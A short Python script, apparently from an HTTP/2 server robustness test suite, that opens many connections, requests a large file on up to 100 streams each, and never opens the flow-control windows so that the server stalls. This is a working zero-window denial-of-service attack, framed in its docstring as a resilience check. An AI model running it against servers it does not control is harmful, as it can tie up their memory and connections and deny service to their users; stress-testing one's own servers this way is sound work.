#!/usr/bin/env python3
"""Zero-window peer: connections that ask for a large file on many streams and never
open their window: half with INITIAL_WINDOW_SIZE 0 (no DATA at all), half with a
large stream window but no connection WINDOW_UPDATE (the server sends 64 KiB and
stalls). Held for --seconds, reading all the while; --count connections. A
resilient server holds bounded memory per stalled stream (no file in memory) and
later times such peers out (that timeout is usually longer than this run)."""
import time

import h2attack as a


def attack(args):
    agg = a.Agg()
    conns = []
    block = a.request_block(a.authority(args), args.big, scheme=a.scheme(args))
    opened = 0
    for i in range(args.count):
        win = 0 if i % 2 == 0 else (1 << 31) - 1
        c = a.Conn(args, our_settings=[(a.INITIAL_WINDOW_SIZE, win)])
        st = a.wait_settings(c, 0.5)
        n = min(100, st.get("MAX_CONCURRENT_STREAMS", 100))
        c.send(b"".join(a.frame(a.HEADERS, a.END_STREAM | a.END_HEADERS, 1 + 2 * j, block) for j in range(n)))
        opened += n
        conns.append(c)
    deadline = a.until_deadline(args)
    while time.monotonic() < deadline and not all(c.closed for c in conns):
        for c in conns:
            c.pump(0.05)
    for c in conns:
        agg.add(c)
        c.close()
    got = sum(c.data_bytes for c in conns)
    return {"sent": "%d connections, %d streams for %s, windows never opened; %d DATA bytes received"
            % (len(conns), opened, args.big, got),
            "streams": opened, "data_bytes": got, "reaction": agg.reaction()}


if __name__ == "__main__":
    a.run("zero_window", __doc__, attack, count_default=8)
